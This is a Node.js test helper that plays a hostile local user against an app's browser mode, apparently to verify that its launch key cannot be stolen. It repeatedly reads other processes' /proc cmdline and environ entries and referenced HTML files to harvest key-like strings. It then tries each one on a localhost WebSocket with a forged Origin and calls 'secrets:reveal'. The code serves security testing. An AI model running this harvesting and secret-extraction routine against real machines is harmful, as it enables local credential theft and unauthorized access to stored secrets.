// Another local user, as test/e2e/launch-key.test.ts runs it (`runuser -u nobody`): it reads
// /proc/*/cmdline and /proc/*/environ of every process, over and over, while browser mode starts
// and opens a browser, and tries whatever looks like a key, a one-time code or a file that may hold
// one against the web host's WebSocket with a forged Origin, as an attacker on the machine would.
// Node built-ins only, since it runs as a user who may not read the project's node_modules.
//
//   node proc-spy.js --port N --marker TEXT   watch; print "ready", "saw-marker" once the
//                                             marker (the test browser's profile) is in some
//                                             process's arguments, and on stdin's end one JSON
//                                             line of counts
//   node proc-spy.js --port N --try           try the key read from stdin once; print the counts
// Candidates are reported as SHA-256 digests only: what other processes hold is not printed.
import { createHash, randomBytes } from 'node:crypto';
import { readdirSync, readFileSync } from 'node:fs';
import { request } from 'node:http';
import { createConnection } from 'node:net';
import { fileURLToPath } from 'node:url';

const args = process.argv.slice(2);
const port = Number(args[args.indexOf('--port') + 1]);
const marker = args.includes('--marker') ? args[args.indexOf('--marker') + 1] : null;
const origin = `http://127.0.0.1:${port}`;

const counts = {
  processes: 0,
  cmdlineReads: 0,
  environReads: 0,
  environDenied: 0,
  sawMarker: false,
  candidates: 0,
  attempts: 0,
  successes: 0,
  calls: 0,
  filesSeen: 0,
  fileReads: 0,
  fileDenied: 0,
  candidateDigests: [],
};
const tried = new Set();
const files = new Set();
const pending = [];

const digest = (text) => createHash('sha256').update(text).digest('hex');

function harvest(text) {
  for (const part of text.split('\0')) {
    if (marker !== null && part.includes(marker) && !counts.sawMarker) {
      counts.sawMarker = true;
      process.stdout.write('saw-marker\n');
    }
    for (const m of part.matchAll(/(?:key|code)=([A-Za-z0-9_-]{16,})/g)) offer(m[1]);
    for (const m of part.matchAll(/(?<![A-Za-z0-9_-])[A-Za-z0-9_-]{43}(?![A-Za-z0-9_-])/g)) offer(m[0]);
    const file = part.startsWith('file://') ? safePath(part) : /^\/\S+\.html?$/.test(part) ? part : null;
    if (file !== null && !files.has(file)) {
      files.add(file);
      counts.filesSeen += 1;
      try {
        harvest(readFileSync(file, 'utf8'));
        counts.fileReads += 1;
      } catch {
        counts.fileDenied += 1;
      }
    }
  }
}

function safePath(url) {
  try {
    return fileURLToPath(url);
  } catch {
    return null;
  }
}

function offer(candidate) {
  if (tried.has(candidate)) return;
  tried.add(candidate);
  counts.candidates += 1;
  counts.candidateDigests.push(digest(candidate));
  pending.push(candidate);
}

function scan() {
  let pids;
  try {
    pids = readdirSync('/proc').filter((name) => /^\d+$/.test(name));
  } catch {
    return;
  }
  for (const pid of pids) {
    if (pid === String(process.pid)) continue;
    counts.processes += 1;
    try {
      harvest(readFileSync(`/proc/${pid}/cmdline`, 'latin1'));
      counts.cmdlineReads += 1;
    } catch {
      // The process ended meanwhile.
    }
    try {
      harvest(readFileSync(`/proc/${pid}/environ`, 'latin1'));
      counts.environReads += 1;
    } catch {
      counts.environDenied += 1;
    }
  }
}

/** Every way in a stolen value could give: as the key, as a one-time code, as the session cookie. */
async function attack(candidate) {
  const sessions = [`key=${candidate}`, `code=${candidate}`];
  counts.attempts += 1;
  if (await socketCall(`/ipc?key=${encodeURIComponent(candidate)}`, null)) return true;
  for (const query of sessions) {
    counts.attempts += 1;
    const cookie = await signIn(`/?${query}`);
    if (cookie !== null && (await socketCall('/ipc', cookie))) return true;
  }
  counts.attempts += 1;
  return socketCall('/ipc', `tokenbench-${port}=${candidate}`);
}

function signIn(path) {
  return new Promise((resolve) => {
    const req = request({ host: '127.0.0.1', port, path, headers: { Host: `127.0.0.1:${port}` } }, (res) => {
      res.resume();
      const set = res.headers['set-cookie']?.[0];
      resolve(set === undefined ? null : set.split(';')[0]);
    });
    req.on('error', () => resolve(null));
    req.setTimeout(2000, () => req.destroy());
    req.end();
  });
}

/** A WebSocket upgrade with a forged Origin; once in, secrets:reveal, as the issue describes. */
function socketCall(path, cookie) {
  return new Promise((resolve) => {
    const socket = createConnection({ host: '127.0.0.1', port });
    let buffer = Buffer.alloc(0);
    let upgraded = false;
    const done = (result) => {
      socket.destroy();
      resolve(result);
    };
    socket.setTimeout(3000, () => done(false));
    socket.on('error', () => done(false));
    socket.on('connect', () => {
      socket.write(
        `GET ${path} HTTP/1.1\r\nHost: 127.0.0.1:${port}\r\nOrigin: ${origin}\r\nUpgrade: websocket\r\n` +
          `Connection: Upgrade\r\nSec-WebSocket-Key: ${randomBytes(16).toString('base64')}\r\n` +
          `Sec-WebSocket-Version: 13\r\n${cookie === null ? '' : `Cookie: ${cookie}\r\n`}\r\n`,
      );
    });
    socket.on('data', (chunk) => {
      buffer = Buffer.concat([buffer, chunk]);
      if (!upgraded) {
        const end = buffer.indexOf('\r\n\r\n');
        if (end < 0) return;
        if (!buffer.subarray(0, end).toString('latin1').startsWith('HTTP/1.1 101')) return done(false);
        upgraded = true;
        counts.successes += 1;
        buffer = buffer.subarray(end + 4);
        const ref = { kind: 'client-secret', clientRef: 'any' };
        socket.write(frame(JSON.stringify({ id: 1, channel: 'secrets:reveal', args: { ref } })));
      }
      const text = readFrame(buffer);
      if (text !== null) {
        if (text.includes('"id":1')) counts.calls += 1;
        done(true);
      }
    });
  });
}

/** A masked text frame, as a client must send (RFC 6455 §5.3). */
function frame(text) {
  const payload = Buffer.from(text, 'utf8');
  const mask = randomBytes(4);
  const head =
    payload.length < 126
      ? Buffer.from([0x81, 0x80 | payload.length])
      : Buffer.from([0x81, 0x80 | 126, payload.length >> 8, payload.length & 255]);
  return Buffer.concat([head, mask, payload.map((byte, i) => byte ^ mask[i % 4])]);
}

function readFrame(buffer) {
  if (buffer.length < 2) return null;
  let length = buffer[1] & 0x7f;
  let start = 2;
  if (length === 126) {
    if (buffer.length < 4) return null;
    length = buffer.readUInt16BE(2);
    start = 4;
  }
  return buffer.length < start + length ? null : buffer.subarray(start, start + length).toString('utf8');
}

async function drain() {
  while (pending.length > 0) await attack(pending.shift());
}

const sleep = (ms) => new Promise((resolve) => setTimeout(resolve, ms));

async function readStdin() {
  let text = '';
  for await (const chunk of process.stdin) text += chunk.toString('utf8');
  return text.trim();
}

if (args.includes('--try')) {
  offer(await readStdin());
  await drain();
  process.stdout.write(`${JSON.stringify(counts)}\n`);
} else {
  let stopping = false;
  void readStdin().then(() => {
    stopping = true;
  });
  process.stdout.write('ready\n');
  while (!stopping) {
    scan();
    await drain();
    await sleep(5);
  }
  scan();
  await drain();
  process.stdout.write(`${JSON.stringify(counts)}\n`);
}
